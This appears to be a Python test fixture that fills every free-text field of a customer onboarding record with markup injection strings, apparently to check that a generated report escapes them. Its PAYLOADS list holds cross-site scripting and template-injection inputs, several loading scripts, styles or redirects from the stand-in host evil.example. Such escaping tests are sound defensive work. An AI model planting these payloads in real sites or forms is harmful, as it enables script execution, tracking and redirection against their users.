"""Customers who write markup, and a notebook that holds it."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from itertools import count

from onboarding.domain.event import noted
from onboarding.domain.history import Evidence, GateDecision, TaskRecord, TaskState
from onboarding.stages.context import Context
from onboarding.store.values import Run, RunOutcome
from tests.report.cases import PROFILE, START, bright_smile, closed, context, problem, run

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><script href=https://evil.example/x.js></script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    '" style="background:url(https://evil.example/a)" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<form action=https://evil.example><button autofocus onfocus=alert(1)>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    "{{ 7 * 7 }} {% raw %} {} {0.__class__}",
    '$x$ <noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b>",
    "<link rel=stylesheet href=https://evil.example/x.css><object data=https://evil.example></object>",
    "--> <!-- ]]> <![CDATA[ <?php alert(1) ?>",
)


class Fields:
    """Hands out a payload with a mark of its own for every field, and remembers them all."""

    def __init__(self, payload: str) -> None:
        self.payload = payload
        self.used: list[str] = []
        self._next = count(1)

    def __call__(self) -> str:
        self.used.append(f"{self.payload} #{next(self._next)}#")
        return self.used[-1]


def hostile(payload: str) -> tuple[Context, list[Run], list[str]]:
    """A customer whose every free text is the payload; the texts that a reader must find on the page."""
    field = Fields(payload)
    values = bright_smile(4)
    values["company"]["name"] = field()
    values["administrator"] |= {"first_name": field(), "last_name": "", "email": field()}
    values["sites"] = [
        {"name": field(), "street": field(), "suite": field(), "city": field(), "state": "MA", "zip": "1"}
    ]
    site = values["sites"][0]["name"]
    for user in values["users"]:
        user |= {"first_name": field(), "last_name": field(), "site": site, "department": field(), "extension": field()}
    values["users"][0]["exchange_plan"] = field()
    values["port_orders"][0]["losing_carrier"] = field()
    values["new_numbers"][0] |= {"listing_name": field(), "e911_site": site}
    values["sharepoint"]["site_name"] = field()
    found = context(values, START + timedelta(days=3), problems=(problem(field()), problem(field(), "error")))
    found = closed(found, PROFILE.tasks[0], START + timedelta(hours=1))
    tasks, evidence = dict(found.record.tasks), list(found.record.evidence)
    for task_id, state in STATES.items():
        at = START + timedelta(hours=5)
        by = field() if state.is_closed else "engineer"  # who noted an open task is not shown
        tasks[task_id] = TaskRecord(task_id, state, at, "customer", by=by, note=noted(field()), reference=field())
        evidence.append(Evidence(task_id, at, field(), noted(field()), field(), field(), "0" * 64, field()))
    decision = GateDecision("go-no-go", False, field(), "customer", START, "0", field(), "0" * 64)
    record = replace(found.record, tasks=tasks, evidence=evidence, decisions=[decision])
    runs = [replace(run(1, "gather", RunOutcome.FAILED, message=field()), by=field(), library_version=field())]
    return replace(found, record=record), runs, field.used


STATES = {
    "telephony.sign-loa": TaskState.WAITING,
    "telephony.order-new": TaskState.REJECTED,
    "provision.company": TaskState.UNKNOWN,
    "services.sharepoint": TaskState.SKIPPED,
}
